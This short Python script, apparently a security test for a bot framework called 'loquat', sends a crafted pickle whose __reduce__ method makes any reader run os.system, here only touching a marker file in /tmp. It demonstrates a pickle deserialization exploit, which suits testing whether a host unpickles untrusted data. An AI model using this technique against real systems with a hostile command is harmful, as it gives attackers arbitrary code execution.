"""Sends a pickle that would run a command wherever it is read."""
import os
import pickle
import struct

from loquat import Bot

bot = Bot()


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/loquat-pickle-was-read",)


@bot.fallback
async def handle(ctx):
    body = pickle.dumps({"type": "handled", "id": 1, "result": Trap(), "recorded": False})
    os.write(3, struct.pack(">I", len(body)) + body)
    while True:
        pass
